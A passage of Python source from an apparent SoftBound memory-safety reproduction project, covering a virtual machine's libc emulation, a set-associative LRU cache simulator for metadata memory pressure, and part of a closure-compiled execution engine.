                out.append(("%" + (spec_clean or ".6") + conv) % float(next_value()))
            elif conv == "p":
                out.append("0x%x" % int(next_value()))
            else:
                out.append("%" + spec + conv)
        return "".join(out)

    def _do_puts(self, args, metas, instr):
        data = self.machine.memory.read_cstring(int(args[0]))
        self.machine.emit_output(data.decode("latin1") + "\n")
        self.machine.stats.charge_libc("puts", len(data))
        return len(data) + 1

    def _do_putchar(self, args, metas, instr):
        self.machine.emit_output(chr(int(args[0]) & 0xFF))
        self.machine.stats.charge_libc("putchar")
        return int(args[0])

    def _do_getchar(self, args, metas, instr):
        self.machine.stats.charge_libc("getchar")
        return self.machine.read_input_char()

    # -- numeric -----------------------------------------------------------------------

    def _do_abs(self, args, metas, instr):
        self.machine.stats.charge_libc("abs")
        return abs(int(args[0]))

    _do_labs = _do_abs

    def _do_rand(self, args, metas, instr):
        self.machine.rng_state = (self.machine.rng_state * 1103515245 + 12345) & 0x7FFFFFFF
        self.machine.stats.charge_libc("rand")
        return self.machine.rng_state

    def _do_srand(self, args, metas, instr):
        self.machine.rng_state = int(args[0]) & 0x7FFFFFFF or 1
        self.machine.stats.charge_libc("srand")
        return 0

    def _math1(self, name, fn, args):
        self.machine.stats.charge_libc(name)
        try:
            return fn(float(args[0]))
        except (ValueError, OverflowError):
            return float("nan")

    def _do_sqrt(self, args, metas, instr):
        return self._math1("sqrt", math.sqrt, args)

    def _do_fabs(self, args, metas, instr):
        return self._math1("fabs", abs, args)

    def _do_floor(self, args, metas, instr):
        return self._math1("floor", lambda v: float(math.floor(v)), args)

    def _do_ceil(self, args, metas, instr):
        return self._math1("ceil", lambda v: float(math.ceil(v)), args)

    def _do_sin(self, args, metas, instr):
        return self._math1("sin", math.sin, args)

    def _do_cos(self, args, metas, instr):
        return self._math1("cos", math.cos, args)

    def _do_exp(self, args, metas, instr):
        return self._math1("exp", math.exp, args)

    def _do_log(self, args, metas, instr):
        return self._math1("log", math.log, args)

    def _do_pow(self, args, metas, instr):
        self.machine.stats.charge_libc("pow")
        try:
            return float(args[0]) ** float(args[1])
        except (ValueError, OverflowError, ZeroDivisionError):
            return float("nan")

    # -- process control ------------------------------------------------------------------

    def _do_exit(self, args, metas, instr):
        self.machine.stats.charge_libc("exit")
        self.machine.exit_program(int(args[0]))

    def _do_abort(self, args, metas, instr):
        raise Trap(TrapKind.ABORT, "abort() called", source="program")

    # -- setjmp / longjmp --------------------------------------------------------------------

    def _do_setjmp(self, args, metas, instr):
        self.machine.stats.charge_libc("setjmp")
        return self.machine.do_setjmp(int(args[0]), instr)

    def _do_longjmp(self, args, metas, instr):
        self.machine.stats.charge_libc("longjmp")
        return self.machine.do_longjmp(int(args[0]), int(args[1]))

    # -- SoftBound programmer interface ---------------------------------------------------------

    def _do_setbound(self, args, metas, instr):
        # When the transform is active it rewrites setbound() calls into
        # direct register updates; reaching here means the program runs
        # unprotected, where setbound is a no-op by design.
        self.machine.stats.charge_libc("setbound")
        return 0

    # -- varargs ------------------------------------------------------------------------------------

    def _frame_for_va(self):
        return self.machine.current_frame()

    def _do_va_start(self, args, metas, instr):
        frame = self._frame_for_va()
        self.machine.memory.write_ptr(int(args[0]), frame.va_spill)
        self.machine.stats.charge_libc("va_start")
        return 0

    def _va_advance(self, ap_addr):
        frame = self._frame_for_va()
        mem = self.machine.memory
        cursor = mem.read_ptr(ap_addr)
        offset = cursor - frame.va_spill
        if self.machine.sb_runtime is not None:
            self.machine.stats.charge("sb.vararg.check")
            if offset < 0 or offset + 8 > frame.va_bytes:
                raise Trap(TrapKind.VARARG_VIOLATION,
                           "va_arg decoded past the passed arguments",
                           source="softbound")
        mem.write_ptr(ap_addr, cursor + 8)
        return cursor, offset, frame

    def _do_va_arg_long(self, args, metas, instr):
        cursor, _offset, _frame = self._va_advance(int(args[0]))
        self.machine.stats.charge_libc("va_arg_long")
        return self.machine.memory.read_int(cursor, 8, signed=True)

    def _do_va_arg_ptr(self, args, metas, instr):
        cursor, offset, frame = self._va_advance(int(args[0]))
        self.machine.stats.charge_libc("va_arg_ptr")
        value = self.machine.memory.read_int(cursor, 8, signed=False)
        runtime = self.machine.sb_runtime
        if runtime is not None:
            meta = frame.va_metas.get(offset)
            if meta is None:
                meta = runtime.null_meta
            elif len(meta) < runtime.meta_arity:
                meta = tuple(meta) + (0,) * (runtime.meta_arity - len(meta))
            return (value,) + tuple(meta)
        return value

    def _do_va_end(self, args, metas, instr):
        self.machine.stats.charge_libc("va_end")
        return 0
