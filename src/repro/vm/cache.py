"""Set-associative cache simulator.

The paper's Section 6.3 attributes part of the hash-table metadata
facility's extra overhead to memory pressure: "simulations of cache miss
rates (not shown) indicate the additional memory pressure is
contributing to the runtime overheads" on the pointer-chasing Olden
benchmarks (treeadd, mst, health).  This module makes those unshown
simulations reproducible: a classic set-associative LRU cache model fed
by the VM's program loads/stores *and* by the metadata facility's own
accesses, so the two facilities' cache footprints can be compared.

Address streams
---------------
Program accesses use their simulated virtual addresses directly.
Metadata accesses are mapped into facility-specific regions of the
simulated address space:

* The **hash table** is a fixed-size array of 24-byte entries at
  :data:`HASH_REGION_BASE`; every pointer slot in the program collides
  into this one array at ``(addr >> 3) mod nbuckets``, so pointer slots
  from *different* program regions (stack vs. heap) alias into the same
  small region, and each access touches a 24-byte entry that can
  straddle two cache lines.  Collision-chain entries live in a separate
  overflow arena, scattering further.
* The **shadow space** mirrors the program address space at 2x scale
  (16 metadata bytes per 8-byte slot) from :data:`SHADOW_REGION_BASE`;
  it therefore *inherits* the program's own locality.

This difference — a shared aliasing array vs. a locality-preserving
mirror — is exactly the memory-pressure asymmetry the paper alludes to,
and ``benchmarks/bench_ablation_cache.py`` measures it.
"""

from dataclasses import dataclass, field

from ..softbound.metadata import (  # noqa: F401  (re-exported for users)
    HASH_OVERFLOW_BASE,
    HASH_REGION_BASE,
    SHADOW_REGION_BASE,
)
from .machine import Observer


@dataclass(frozen=True)
class CacheConfig:
    """Geometry of one cache level."""

    size_bytes: int = 32 * 1024
    assoc: int = 8
    line_bytes: int = 64
    name: str = "L1D"

    @property
    def n_sets(self):
        return self.size_bytes // (self.assoc * self.line_bytes)

    def __post_init__(self):
        if self.size_bytes % (self.assoc * self.line_bytes):
            raise ValueError("cache size must be a multiple of assoc * line size")
        if self.n_sets & (self.n_sets - 1):
            raise ValueError("number of sets must be a power of two")


# Core 2-like defaults: 32KB 8-way L1D, 4MB 16-way shared L2, 64B lines.
CORE2_L1D = CacheConfig(size_bytes=32 * 1024, assoc=8, line_bytes=64, name="L1D")
CORE2_L2 = CacheConfig(size_bytes=4 * 1024 * 1024, assoc=16, line_bytes=64, name="L2")


@dataclass
class StreamCounters:
    """Hit/miss counts for one access stream (program or metadata)."""

    accesses: int = 0
    misses: int = 0

    @property
    def hits(self):
        return self.accesses - self.misses

    @property
    def miss_rate(self):
        return self.misses / self.accesses if self.accesses else 0.0


class CacheSim:
    """One level of set-associative cache with true-LRU replacement.

    ``access`` accepts any (address, size) pair and splits it across
    cache lines; it returns the number of lines that missed so a parent
    hierarchy can forward misses to the next level.
    """

    def __init__(self, config=CORE2_L1D):
        self.config = config
        self._set_mask = config.n_sets - 1
        self._line_shift = config.line_bytes.bit_length() - 1
        # Each set is a list of line tags ordered least- to most-recently
        # used.  Python list ops are O(assoc), which is tiny.
        self._sets = [[] for _ in range(config.n_sets)]
        self.streams = {}

    def counters(self, stream):
        try:
            return self.streams[stream]
        except KeyError:
            counters = self.streams[stream] = StreamCounters()
            return counters

    def _lines_of(self, addr, size):
        first = addr >> self._line_shift
        last = (addr + max(size, 1) - 1) >> self._line_shift
        return range(first, last + 1)

    def access(self, addr, size, stream="prog"):
        """Touch [addr, addr+size); returns the line numbers that missed."""
        counters = self.counters(stream)
        missed = []
        for line in self._lines_of(addr, size):
            counters.accesses += 1
            cache_set = self._sets[line & self._set_mask]
            try:
                cache_set.remove(line)
            except ValueError:
                counters.misses += 1
                missed.append(line)
                if len(cache_set) >= self.config.assoc:
                    cache_set.pop(0)
            cache_set.append(line)
        return missed

    def access_line(self, line, stream="prog"):
        """Touch one already-split line (used by upper levels on miss)."""
        counters = self.counters(stream)
        counters.accesses += 1
        cache_set = self._sets[line & self._set_mask]
        try:
            cache_set.remove(line)
        except ValueError:
            counters.misses += 1
            if len(cache_set) >= self.config.assoc:
                cache_set.pop(0)
            cache_set.append(line)
            return True
        cache_set.append(line)
        return False

    def miss_rate(self, stream=None):
        if stream is not None:
            return self.counters(stream).miss_rate
        accesses = sum(c.accesses for c in self.streams.values())
        misses = sum(c.misses for c in self.streams.values())
        return misses / accesses if accesses else 0.0


class CacheHierarchy:
    """A two-level hierarchy: L1 misses are replayed into L2.

    Line numbering is shared because both levels use the same line size;
    a different L2 line size would only need a renumbering step.
    """

    def __init__(self, l1_config=CORE2_L1D, l2_config=CORE2_L2):
        if l1_config.line_bytes != l2_config.line_bytes:
            raise ValueError("hierarchy assumes a shared line size")
        self.l1 = CacheSim(l1_config)
        self.l2 = CacheSim(l2_config)

    def access(self, addr, size, stream="prog"):
        for line in self.l1.access(addr, size, stream):
            self.l2.access_line(line, stream)

    def report(self):
        return CacheReport.from_hierarchy(self)


@dataclass
class CacheReport:
    """Summary of a run's cache behaviour, split by stream."""

    l1_prog: StreamCounters = field(default_factory=StreamCounters)
    l1_meta: StreamCounters = field(default_factory=StreamCounters)
    l2_prog: StreamCounters = field(default_factory=StreamCounters)
    l2_meta: StreamCounters = field(default_factory=StreamCounters)

    @classmethod
    def from_hierarchy(cls, hierarchy):
        return cls(
            l1_prog=hierarchy.l1.counters("prog"),
            l1_meta=hierarchy.l1.counters("meta"),
            l2_prog=hierarchy.l2.counters("prog"),
            l2_meta=hierarchy.l2.counters("meta"),
        )

    @property
    def l1_overall_miss_rate(self):
        accesses = self.l1_prog.accesses + self.l1_meta.accesses
        misses = self.l1_prog.misses + self.l1_meta.misses
        return misses / accesses if accesses else 0.0


class CacheObserver(Observer):
    """VM observer feeding program *and* metadata accesses into a cache.

    Program loads/stores arrive through the standard observer hooks.
    Metadata accesses are captured by installing a trace callback on the
    attached machine's metadata facility (when a SoftBound runtime is
    present) via :meth:`~repro.softbound.metadata.MetadataFacility.set_trace`;
    each facility reports the simulated addresses of the entries it
    touches under its own address model.
    """

    def __init__(self, hierarchy=None):
        self.hierarchy = hierarchy if hierarchy is not None else CacheHierarchy()

    def attach(self, machine):
        runtime = getattr(machine, "sb_runtime", None)
        if runtime is not None and hasattr(runtime.facility, "set_trace"):
            runtime.facility.set_trace(self._on_meta_access)

    def on_load(self, addr, size):
        self.hierarchy.access(addr, size, "prog")

    def on_store(self, addr, size):
        self.hierarchy.access(addr, size, "prog")

    def _on_meta_access(self, addr, size):
        self.hierarchy.access(addr, size, "meta")

    def report(self):
        return self.hierarchy.report()
