"""Closure-compiled execution engine (threaded code).

The reference interpreter in :mod:`repro.vm.machine` pays, on every
executed instruction: a dict dispatch, an unbound-method call, one
``isinstance`` chain per operand, a string-keyed ``stats.charge`` and —
for memory operations — a segment scan plus ``int.from_bytes``.  None of
that work depends on runtime values, so this module hoists all of it to
a one-time per-block compilation pass, the classic closure-compilation /
threaded-code technique from the interpreter-optimization literature:

* every instruction becomes one specialized Python closure with its
  operands pre-resolved (register uid / constant / resolved symbol
  address), its cost units precomputed into numeric increments, its
  branch targets pre-bound to block objects, and its observer /
  SoftBound branches specialized away when the machine has none;
* dominant instruction pairs are fused into superinstructions
  (``cmp``+``cbr``, ``gep``+``load``/``store``,
  ``sb_meta_load``+``sb_check``, ``gep``+``sb_check``) that skip one
  dispatch and one register-file round-trip while charging exactly the
  same statistics;
* the dispatch loop is ``i = ops[i](frame, regs)``: each closure returns
  the next opcode index (a compile-time constant for straight-line
  code), so there is no per-step opcode lookup at all.

Compilation is two-level so its cost amortizes across runs:

* a **machine-independent template** — the list of closure *builders*,
  including the fusion plan and all constants derivable from the IR —
  is cached on each :class:`~repro.ir.module.BasicBlock` and
  invalidated via the block's ``version`` stamp whenever the optimizer
  pipeline or the SoftBound transform rewrites the block;
* the per-:class:`~repro.vm.machine.Machine` specialization (binding
  stats, memory codecs, the metadata facility, resolved symbol
  addresses, call sites) just invokes the builders, lazily, the first
  time a block executes.

Semantics are bit-identical to the reference interpreter — execution
order, trap kinds/addresses/messages and every
:class:`~repro.vm.costs.CostStats` counter, which
``tests/vm/test_engine_equivalence.py`` pins over the full workload,
attack and bug corpora.
"""

from ..ir.values import Const, Register, SymbolRef
from ..obs.profiler import site_of
from .costs import OP_COSTS
from .errors import Trap, TrapKind
from .memory import _F64, _SCALAR_CODECS
from .machine import (
    RESOURCE_LIMIT_MSG as _RESOURCE_MSG,
    Frame,
    Machine,
    _frame_layout,
    _operand_type,
)

_M64 = (1 << 64) - 1

_COST_LOAD = OP_COSTS["load"]
_COST_STORE = OP_COSTS["store"]
_COST_CMP = OP_COSTS["cmp"]
_COST_GEP = OP_COSTS["gep"]
_COST_CAST = OP_COSTS["cast"]
_COST_BR = OP_COSTS["br"]
_COST_CBR = OP_COSTS["cbr"]
_COST_RET = OP_COSTS["ret"]
_COST_CALL = OP_COSTS["call"]
_COST_CALL_ARG = OP_COSTS["call.per_arg"]
_COST_FNPTR = OP_COSTS["sb.fnptr.check"]

#: The integer ALU semantics are the interpreter's own table — shared,
#: not copied, so the two engines cannot drift.
_INT_FNS = Machine._INT_OPS

#: Shared read-only vararg-metadata map for frames of non-variadic
#: functions pushed by the specialized call path (never mutated: only
#: ``_push_frame`` writes ``va_metas``, and only for variadic callees).
_EMPTY_VA_METAS = {}


class ClosureEngine:
    """Per-machine compiled-code cache plus the threaded dispatch loop."""

    def __init__(self, machine):
        self.machine = machine
        self.stats = machine.stats
        self.memory = machine.memory
        self.observers = machine.observers
        self.limit = machine.max_instructions
        self._code = {}  # id(function) -> flat ops list
        self._ret_value = None
        self._returned = False

    def invalidate(self):
        """Drop machine-level specializations.  This is the ONLY way to
        re-translate code on a *live* engine (e.g. after attaching an
        observer): block ``version`` stamps invalidate the on-function
        template consulted at compile time, but a function already in
        ``_code`` is never re-checked against them."""
        self._code.clear()

    # -- operand pre-resolution -------------------------------------------

    def spec(self, operand):
        """Pre-resolve an operand: ``("reg", uid)``, ``("const", value)``
        (symbols resolve to constant addresses now), or ``("acc", fn)``
        for the unresolved-symbol edge that must trap lazily.  Builders
        use the kind to emit closures with the operand access inlined —
        no per-step accessor call for registers or constants."""
        if isinstance(operand, Register):
            return ("reg", operand.uid)
        if isinstance(operand, Const):
            return ("const", operand.value)
        if isinstance(operand, SymbolRef):
            addr = self.machine.symbol_addrs.get(operand.name)
            if addr is None:
                return ("acc", self.acc(operand))
            return ("const", addr + operand.addend)
        raise TypeError(f"bad operand {operand!r}")

    def acc(self, operand):
        """Compile an operand into a ``fn(regs) -> value`` accessor with
        the isinstance tests done exactly once, here."""
        if isinstance(operand, Register):
            uid = operand.uid

            def get_reg(regs, _uid=uid):
                return regs.get(_uid, 0)

            return get_reg
        if isinstance(operand, Const):
            value = operand.value
            return lambda regs: value
        if isinstance(operand, SymbolRef):
            addr = self.machine.symbol_addrs.get(operand.name)
            if addr is None:
                name = operand.name

                def unresolved(regs):
                    raise Trap(TrapKind.SEGFAULT, f"unresolved symbol {name}")

                return unresolved
            value = addr + operand.addend
            return lambda regs: value
        raise TypeError(f"bad operand {operand!r}")

    # -- compilation --------------------------------------------------------

    def code_for(self, function):
        """Specialize (or fetch) the compiled closures for ``function``.

        The machine-level cache is validated once here, not per
        transition: IR rewrites happen before execution starts (the
        pipeline and transform bump block versions, which invalidates
        the on-function template), and anything re-specializing a live
        machine goes through :meth:`invalidate`.
        """
        builders, _offsets = _function_template(function)
        ops = [make(self, function) for make in builders]
        self._code[id(function)] = ops
        return ops

    # -- the dispatch loop ---------------------------------------------------

    def execute(self, frame):
        """Run ``frame`` until its function returns; returns the value.
        Mirrors ``Machine._execute_interp`` frame-for-frame.

        Under this engine ``frame.index`` holds a *flat* offset into the
        function's compiled-op list (the concatenation of its blocks);
        in-function branches return the target offset directly, so only
        calls, returns and ``longjmp`` touch this outer loop.
        """
        machine = self.machine
        frames = machine.frames
        depth = len(frames)
        frame.block = frame.function.entry
        frame.index = 0
        code = self._code
        code_for = self.code_for
        while True:
            if self._returned:
                self._returned = False
                if len(frames) < depth:
                    value = self._ret_value
                    self._ret_value = None
                    return value
            elif len(frames) < depth:
                raise Trap(TrapKind.UNREACHABLE, "frame unwound past execute root")
            frame = frames[-1]
            function = frame.function
            ops = code.get(id(function))
            if ops is None:
                ops = code_for(function)
            i = frame.index
            regs = frame.regs
            while i >= 0:
                i = ops[i](frame, regs)


# ---------------------------------------------------------------------------
# Function templates (machine-independent): each function's blocks are laid
# out into one flat list of closure builders — in-function branches resolve
# to flat offsets at compile time, so taken branches never leave the inner
# dispatch loop.  The template is cached on the function and invalidated
# through its blocks' ``version`` stamps.
# ---------------------------------------------------------------------------


def _function_template(function):
    versions = tuple(getattr(block, "version", 0) for block in function.blocks)
    cached = getattr(function, "_engine_template", None)
    if cached is not None and cached[0] == versions:
        return cached[1], cached[2]
    # Layout pass: flat offset of each block (a block without a
    # terminator — malformed, pre-verifier IR — gets a sentinel slot so
    # falling off it traps exactly like the reference interpreter).
    offsets = {}
    pos = 0
    for block in function.blocks:
        offsets[block.label] = pos
        pos += len(block.instructions)
        if block.terminator is None:
            pos += 1
    builders = []
    for block in function.blocks:
        instrs = block.instructions
        count = len(instrs)
        base = offsets[block.label]
        for i, instr in enumerate(instrs):
            flat = base + i
            fused = None
            if i + 1 < count:
                fused = _try_fuse(instr, instrs[i + 1], flat, offsets, block)
            builders.append(fused if fused is not None
                            else _build_instr(instr, flat, offsets, block))
        if block.terminator is None:
            builders.append(_build_sentinel(block.label))
    try:
        function._engine_template = (versions, builders, offsets)
    except AttributeError:
        pass  # exotic function objects without attribute support
    return builders, offsets


def _build_sentinel(label):
    def make(engine, function):
        def op(frame, regs):
            raise Trap(TrapKind.UNREACHABLE, f"fell off block {label}")

        return op

    return make


def _build_instr(instr, index, offsets, block):
    builder = _BUILDERS.get(instr.opcode)
    if builder is None:
        # A policy opcode registered with only an interpreter handler
        # still executes under this engine through the generic adapter.
        from .dispatch import INTERP_HANDLERS, adapt_interp_handler

        if instr.opcode in INTERP_HANDLERS:
            return adapt_interp_handler(instr.opcode)(
                instr, index, offsets, block)
        raise Trap(TrapKind.UNREACHABLE, f"no builder for opcode {instr.opcode}")
    return builder(instr, index, offsets, block)


# -- straight-line instructions ---------------------------------------------


def _build_alloca(instr, index, offsets, block):
    uid = instr.dst.uid
    nxt = index + 1

    def make(engine, function):
        st = engine.stats
        limit = engine.limit
        offset = _frame_layout(function)[0][uid]

        def op(frame, regs):
            n = st.instructions + 1
            st.instructions = n
            if n > limit:
                raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
            regs[uid] = frame.base + offset
            return nxt

        return op

    return make


def _make_loader(engine, irtype):
    memory = engine.memory
    if irtype.is_float:
        return memory.f64_reader()
    if irtype.is_ptr:
        return memory.scalar_reader(8, False)
    try:
        return memory.scalar_reader(irtype.size, True)
    except KeyError:
        size = irtype.size
        return lambda addr: memory.read_int(addr, size, signed=True)


def _load_codec(irtype):
    """The struct codec decoding a load of ``irtype`` (None when no
    pre-built codec applies and the generic reader must be used)."""
    if irtype.is_float:
        return _F64
    if irtype.is_ptr:
        return _SCALAR_CODECS[(8, False)]
    return _SCALAR_CODECS.get((irtype.size, True))


def _build_load(instr, index, offsets, block):
    uid = instr.dst.uid
    irtype = instr.type
    size = irtype.size
    is_ptr_val = instr.is_pointer_value
    nxt = index + 1

    def make(engine, function):
        st = engine.stats
        limit = engine.limit
        observers = engine.observers
        ka, va = engine.spec(instr.addr)
        codec = _load_codec(irtype)

        if ka == "reg" and not observers and codec is not None:
            # The dominant shape: data/pointer load through a register —
            # the segment cache and struct decode are inlined, so the
            # whole load is one closure with no further calls.
            ua = va
            unpack = codec.unpack_from
            width = codec.size
            segment_for = engine.memory._segment_for
            cached = engine.memory.heap

            if is_ptr_val:

                def op(frame, regs):
                    nonlocal cached
                    n = st.instructions + 1
                    st.instructions = n
                    if n > limit:
                        raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                    try:
                        addr = regs[ua]
                    except KeyError:
                        addr = 0
                    seg = cached
                    if addr < seg.base or addr + width > seg.end:
                        seg = segment_for(addr, width)
                        if seg is None:
                            raise Trap(TrapKind.SEGFAULT,
                                       f"read of {width} bytes", address=addr)
                        cached = seg
                    regs[uid] = unpack(seg.data, addr - seg.base)[0]
                    st.cost += _COST_LOAD
                    st.memory_ops += 1
                    st.pointer_memory_ops += 1
                    return nxt

            else:

                def op(frame, regs):
                    nonlocal cached
                    n = st.instructions + 1
                    st.instructions = n
                    if n > limit:
                        raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                    try:
                        addr = regs[ua]
                    except KeyError:
                        addr = 0
                    seg = cached
                    if addr < seg.base or addr + width > seg.end:
                        seg = segment_for(addr, width)
                        if seg is None:
                            raise Trap(TrapKind.SEGFAULT,
                                       f"read of {width} bytes", address=addr)
                        cached = seg
                    regs[uid] = unpack(seg.data, addr - seg.base)[0]
                    st.cost += _COST_LOAD
                    st.memory_ops += 1
                    return nxt

            return op

        read = _make_loader(engine, irtype)

        if ka == "reg":
            ua = va
            addr_acc = lambda regs: regs.get(ua, 0)
        elif ka == "const":
            ca = va
            addr_acc = lambda regs: ca
        else:
            addr_acc = engine.acc(instr.addr)

        def op(frame, regs):
            n = st.instructions + 1
            st.instructions = n
            if n > limit:
                raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
            addr = addr_acc(regs)
            if observers:
                for observer in observers:
                    observer.on_load(addr, size)
            regs[uid] = read(addr)
            st.cost += _COST_LOAD
            st.memory_ops += 1
            if is_ptr_val:
                st.pointer_memory_ops += 1
            return nxt

        return op

    return make


def _build_store(instr, index, offsets, block):
    irtype = instr.type
    size = irtype.size
    is_float = irtype.is_float
    is_ptr_val = instr.is_pointer_value
    nxt = index + 1

    def make(engine, function):
        st = engine.stats
        limit = engine.limit
        observers = engine.observers
        memory = engine.memory
        if is_float:
            write = memory.f64_writer()
        else:
            try:
                write = memory.scalar_writer(size)
            except KeyError:
                write = lambda addr, value: memory.write_int(addr, value, size)
        runtime = engine.machine.sb_runtime
        on_pstore = None
        if not is_ptr_val and runtime is not None and runtime.observes_stores:
            on_pstore = runtime.on_program_store
        ka, va = engine.spec(instr.addr)
        kv, vv = engine.spec(instr.value)

        if (ka == "reg" and kv == "reg" and not observers
                and is_float and not is_ptr_val and on_pstore is None):
            # Float store, register to register — F64 encode inlined.
            ua, uv = va, vv
            pack_f64 = _F64.pack_into
            segment_for = memory._segment_for
            cached = memory.heap

            def op(frame, regs):
                nonlocal cached
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                try:
                    addr = regs[ua]
                    value = regs[uv]
                except KeyError:
                    addr = regs.get(ua, 0)
                    value = regs.get(uv, 0)
                seg = cached
                if addr < seg.base or addr + 8 > seg.end:
                    seg = segment_for(addr, 8)
                    if seg is None:
                        raise Trap(TrapKind.SEGFAULT,
                                   "write of 8 bytes", address=addr)
                    cached = seg
                pack_f64(seg.data, addr - seg.base, float(value))
                st.cost += _COST_STORE
                st.memory_ops += 1
                return nxt

            return op

        codec = None if is_float else _SCALAR_CODECS.get((size, False))
        if (ka == "reg" and kv == "reg" and not observers
                and not is_float and on_pstore is None
                and codec is not None):
            # The dominant shape: int/pointer store, register to
            # register — segment cache and struct encode inlined.
            ua, uv = va, vv
            pack_into = codec.pack_into
            vmask = (1 << (size * 8)) - 1
            segment_for = memory._segment_for
            cached = memory.heap

            if is_ptr_val:

                def op(frame, regs):
                    nonlocal cached
                    n = st.instructions + 1
                    st.instructions = n
                    if n > limit:
                        raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                    try:
                        addr = regs[ua]
                        value = regs[uv]
                    except KeyError:
                        addr = regs.get(ua, 0)
                        value = regs.get(uv, 0)
                    seg = cached
                    if addr < seg.base or addr + size > seg.end:
                        seg = segment_for(addr, size)
                        if seg is None:
                            raise Trap(TrapKind.SEGFAULT,
                                       f"write of {size} bytes", address=addr)
                        cached = seg
                    pack_into(seg.data, addr - seg.base, int(value) & vmask)
                    st.cost += _COST_STORE
                    st.memory_ops += 1
                    st.pointer_memory_ops += 1
                    return nxt

            else:

                def op(frame, regs):
                    nonlocal cached
                    n = st.instructions + 1
                    st.instructions = n
                    if n > limit:
                        raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                    try:
                        addr = regs[ua]
                        value = regs[uv]
                    except KeyError:
                        addr = regs.get(ua, 0)
                        value = regs.get(uv, 0)
                    seg = cached
                    if addr < seg.base or addr + size > seg.end:
                        seg = segment_for(addr, size)
                        if seg is None:
                            raise Trap(TrapKind.SEGFAULT,
                                       f"write of {size} bytes", address=addr)
                        cached = seg
                    pack_into(seg.data, addr - seg.base, int(value) & vmask)
                    st.cost += _COST_STORE
                    st.memory_ops += 1
                    return nxt

            return op

        if ka == "reg":
            ua = va
            addr_acc = lambda regs: regs.get(ua, 0)
        elif ka == "const":
            ca = va
            addr_acc = lambda regs: ca
        else:
            addr_acc = engine.acc(instr.addr)
        if kv == "reg":
            uv = vv
            val_acc = lambda regs: regs.get(uv, 0)
        elif kv == "const":
            cv = vv
            val_acc = lambda regs: cv
        else:
            val_acc = engine.acc(instr.value)

        def op(frame, regs):
            n = st.instructions + 1
            st.instructions = n
            if n > limit:
                raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
            addr = addr_acc(regs)
            value = val_acc(regs)
            if observers:
                for observer in observers:
                    observer.on_store(addr, size)
            if is_float:
                write(addr, value)
            else:
                write(addr, int(value))
            st.cost += _COST_STORE
            st.memory_ops += 1
            if is_ptr_val:
                st.pointer_memory_ops += 1
            elif on_pstore is not None:
                on_pstore(addr, size)
            return nxt

        return op

    return make


def _build_binop(instr, index, offsets, block):
    op_name = instr.op
    uid = instr.dst.uid
    dst_type = instr.dst.type
    bits = dst_type.size * 8
    mask = (1 << bits) - 1
    span = 1 << bits
    sbit = 1 << (bits - 1)
    wrap_signed = dst_type.kind != "ptr"
    cost = OP_COSTS["binop." + op_name]
    fn = _INT_FNS.get(op_name)
    nxt = index + 1

    def make(engine, function):
        st = engine.stats
        limit = engine.limit

        if fn is not None:
            ka, va = engine.spec(instr.a)
            kb, vb = engine.spec(instr.b)
            # ``int()`` mirrors the interpreter's defensive truncation;
            # when the operands' static IR types are non-float, a value
            # of another runtime type cannot reach this op in well-typed
            # IR, so the conversion is provably the identity and the
            # closure elides it.
            ints_needed = _operand_may_be_float(instr.a) or _operand_may_be_float(instr.b)
            if ka == "reg" and kb == "reg":
                ua, ub = va, vb

                if ints_needed:

                    def op(frame, regs):
                        n = st.instructions + 1
                        st.instructions = n
                        if n > limit:
                            raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                        try:
                            value = fn(int(regs[ua]), int(regs[ub])) & mask
                        except KeyError:  # unwritten register reads as 0
                            value = fn(int(regs.get(ua, 0)), int(regs.get(ub, 0))) & mask
                        if wrap_signed and value >= sbit:
                            value -= span
                        regs[uid] = value
                        st.cost += cost
                        return nxt

                else:

                    def op(frame, regs):
                        n = st.instructions + 1
                        st.instructions = n
                        if n > limit:
                            raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                        try:
                            value = fn(regs[ua], regs[ub]) & mask
                        except KeyError:
                            value = fn(regs.get(ua, 0), regs.get(ub, 0)) & mask
                        if wrap_signed and value >= sbit:
                            value -= span
                        regs[uid] = value
                        st.cost += cost
                        return nxt

            elif ka == "reg" and kb == "const":
                ua, cb = va, int(vb)

                if ints_needed:

                    def op(frame, regs):
                        n = st.instructions + 1
                        st.instructions = n
                        if n > limit:
                            raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                        try:
                            value = fn(int(regs[ua]), cb) & mask
                        except KeyError:
                            value = fn(int(regs.get(ua, 0)), cb) & mask
                        if wrap_signed and value >= sbit:
                            value -= span
                        regs[uid] = value
                        st.cost += cost
                        return nxt

                else:

                    def op(frame, regs):
                        n = st.instructions + 1
                        st.instructions = n
                        if n > limit:
                            raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                        try:
                            value = fn(regs[ua], cb) & mask
                        except KeyError:
                            value = fn(regs.get(ua, 0), cb) & mask
                        if wrap_signed and value >= sbit:
                            value -= span
                        regs[uid] = value
                        st.cost += cost
                        return nxt

            elif ka == "const" and kb == "reg":
                ca, ub = int(va), vb

                if ints_needed:

                    def op(frame, regs):
                        n = st.instructions + 1
                        st.instructions = n
                        if n > limit:
                            raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                        try:
                            value = fn(ca, int(regs[ub])) & mask
                        except KeyError:
                            value = fn(ca, int(regs.get(ub, 0))) & mask
                        if wrap_signed and value >= sbit:
                            value -= span
                        regs[uid] = value
                        st.cost += cost
                        return nxt

                else:

                    def op(frame, regs):
                        n = st.instructions + 1
                        st.instructions = n
                        if n > limit:
                            raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                        try:
                            value = fn(ca, regs[ub]) & mask
                        except KeyError:
                            value = fn(ca, regs.get(ub, 0)) & mask
                        if wrap_signed and value >= sbit:
                            value -= span
                        regs[uid] = value
                        st.cost += cost
                        return nxt

            elif ka == "const" and kb == "const":
                folded = fn(int(va), int(vb)) & mask
                if wrap_signed and folded >= sbit:
                    folded -= span

                def op(frame, regs):
                    n = st.instructions + 1
